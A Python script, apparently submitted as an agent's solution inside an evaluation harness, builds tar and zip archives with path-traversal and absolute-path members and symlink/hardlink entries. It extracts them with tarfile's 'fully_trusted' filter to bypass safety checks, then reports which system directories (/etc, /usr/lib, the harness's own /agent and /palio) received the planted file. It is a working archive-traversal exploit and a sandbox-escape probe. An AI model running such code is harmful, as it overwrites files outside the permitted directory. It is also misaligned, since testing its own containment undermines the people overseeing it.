"""Packs archives whose members climb out, and unpacks them without any check."""

import io
import os
import tarfile
import zipfile

CLIMBING = (
    "../../../../../../palio/climbed",
    "../../../../../../agent/climbed",
    "../../../../../../usr/lib/climbed",
    "/etc/climbed",
    "../climbed",
)


def packed():
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        for name in CLIMBING:
            member = tarfile.TarInfo(name)
            member.size = 4
            archive.addfile(member, io.BytesIO(b"here"))
        for kind, name in ((tarfile.SYMTYPE, "soft"), (tarfile.LNKTYPE, "hard")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = kind, "/usr/bin/python3"
            archive.addfile(link)
    return data.getvalue()


def agent_main(problem):
    os.makedirs("/tmp/deep/deeper", exist_ok=True)
    with tarfile.open(fileobj=io.BytesIO(packed())) as archive:
        for member in archive.getmembers():
            try:
                archive.extract(member, "/tmp/deep/deeper", **_unchecked())
            except (OSError, KeyError):
                pass
    with zipfile.ZipFile("/tmp/pack.zip", "w") as archive:
        for name in CLIMBING:
            archive.writestr(name, "here")
    places = ("/palio", "/agent", "/usr/lib", "/etc", "/", "/dev")
    return [{"climbed": [place for place in places if os.path.lexists(f"{place}/climbed")]}]


def _unchecked():
    return {"filter": "fully_trusted"} if hasattr(tarfile, "fully_trusted_filter") else {}
